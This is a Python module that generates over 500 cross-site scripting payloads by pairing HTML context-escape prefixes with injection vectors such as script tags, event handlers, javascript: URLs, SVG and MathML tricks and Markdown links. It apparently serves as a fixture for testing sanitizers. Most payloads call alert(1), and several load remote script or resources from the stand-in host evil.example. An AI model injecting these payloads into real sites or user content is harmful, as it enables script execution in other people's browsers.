"""Five hundred hostile words: each way out of a piece of HTML, with each thing that might run or be loaded there.

Whatever of them runs calls `alert`, and whatever loads asks evil.example.
"""

from itertools import product

# Out of nothing, an attribute in either kind of quotes, an element, a comment, a block of data, a template.
WAYS_OUT = [
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</style></noscript></textarea>",
    "\\\"'};",
    "&quot;&gt;",
    "\u2028",
]
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.ogg autoplay onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=//evil.example/o.html></object>",
    "<embed src=//evil.example/e.swf>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/i.css';*{background:url(//evil.example/b.png)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/m.png)",
    '![x](x.png"onerror=alert(1))',
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(//evil.example/c.png)' onmouseover=alert(1)>x",
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "{{ ''.__class__ }}<script>alert(1)</script>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "<mj-raw><script>alert(1)</script></mj-raw>",
]
PAYLOADS = [out + vector for vector, out in product(VECTORS, WAYS_OUT)]
assert len(PAYLOADS) == len(set(PAYLOADS)) > 500
